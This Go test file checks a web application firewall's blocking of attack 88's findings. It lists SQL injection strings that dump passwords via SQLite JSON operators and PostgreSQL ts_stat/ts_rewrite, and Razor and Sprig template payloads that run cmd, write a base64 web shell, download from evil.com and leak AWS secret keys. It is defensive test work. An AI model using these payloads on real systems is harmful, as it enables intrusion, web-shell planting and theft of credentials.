package waf

import (
	"net/http"
	"strings"
	"testing"
	"time"
)

// TestAttack88 are attack 88's finds: SQLite's JSON operators as a
// condition after a closed quote (x' or '1'->>'$' or ': every row on
// SQLite 3.38 and later, run for real; 210214); PostgreSQL's text search
// functions that run a query given as a string (ts_stat, ts_rewrite:
// every password stored in a comment on PostgreSQL 15; 210212); Razor
// expressions and code blocks that reach the .NET runtime, and Sprig's
// expandenv in a Go template (210215).
func TestAttack88(t *testing.T) {
	operatorTable(t, "210214", jsonArrow,
		[]string{"x' or '1'->>'$' or '", "x' or '1'->'$' or '", "x'or'1'->>'$'or'", "x' or '1'->>'$'--", "x' or '1'->>'$';--", "x' or '1' ->> '$' or '",
			"x' or prefs->>'a' or '", "5 or '1'->>'$'", "5 or 1->>'$'", "0 or '1'->'$'"},
		nil,
		[]string{"use data->>'name' to read it", "$user->name or $user->email", "a -> 'b' or c", "it's for '1'->'2'"})
	operatorTable(t, "210212", quoteConcatSubquery,
		[]string{"x'||ts_stat($$select to_tsvector(password) from users$$)||'",
			"x'||ts_rewrite('a'::tsquery, $$select 'a'::tsquery, plainto_tsquery(password) from users where name='admin'$$)||'"},
		[]string{"x'||ts_stat('select to_tsvector(password) from users')||'"},
		[]string{"x'||ts_headline('a')||'"})
	operatorTable(t, "210215", templateRuntime,
		[]string{`@(Microsoft.VisualBasic.Interaction.Shell("cmd /c whoami > C:\\inetpub\\wwwroot\\o.txt"))`,
			`@(System.IO.File.WriteAllBytes("C:\\inetpub\\wwwroot\\s.aspx",Convert.FromBase64String("PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPg==")))`,
			`@{ new System.Net.WebClient().DownloadFile("http://evil.com/s.aspx", Server.MapPath("~/s.aspx")); }`,
			`@(System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA")).CreateInstance("X"))`,
			`@(System.Configuration.ConfigurationManager.ConnectionStrings[0].ConnectionString)`,
			`@(new System.Net.Http.HttpClient().GetStringAsync("http://evil/").Result)`,
			`{{ expandenv "$AWS_SECRET_ACCESS_KEY" }}`, `{{ "$AWS_SECRET_ACCESS_KEY" | expandenv }}`, `{{ index (splitList "," (expandenv "$SECRET_KEY")) 0 }}`},
		nil,
		[]string{"Hello @(Model.Name), your order @(Model.OrderId) shipped", "Email me @ (john) or {{ name }}", "$props = @{ Name = 'x'; Size = 3 }"})
	tableOnly(t)
	h := func(name, k, v string) probe {
		return probe{name: name, method: "GET", path: "/x", header: http.Header{k: {v}}}
	}
	runBeyondTheCRS(t, nil,
		[]probe{h("User-Agent ts_stat", "User-Agent", "x'||ts_stat('select to_tsvector(password) from users')||'"),
			h("X-User-Id JSON arrow", "X-User-Id", "x' or '1'->>'$' or '"),
			{name: "form login JSON arrow", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=x%27+or+%271%27-%3E%3E%27%24%27+or+%27&pass=zz"}},
		nil)
}

// TestCPUBoundAttack88: 16 KiB of the shapes attack 88's fixes read cost
// a request what the bound allows, through Caddy.
func TestCPUBoundAttack88(t *testing.T) {
	tableOnly(t)
	base, _ := startCaddy(t, "waf")
	margin := time.Duration(cpuMargin)
	for _, unit := range []string{"@(", "@{System.", "@(microsoft.x ", "{{expandenv", "x' or '1'->", "'->'", "or a->1 ", "'||ts_stat($$"} {
		req, _ := http.NewRequest("POST", base+"/api/items", strings.NewReader(repeatedJSON(unit)))
		req.Header.Set("Content-Type", "application/json")
		readUnder(t, req, unit+" over and over, JSON", margin*urlsBound)
	}
}
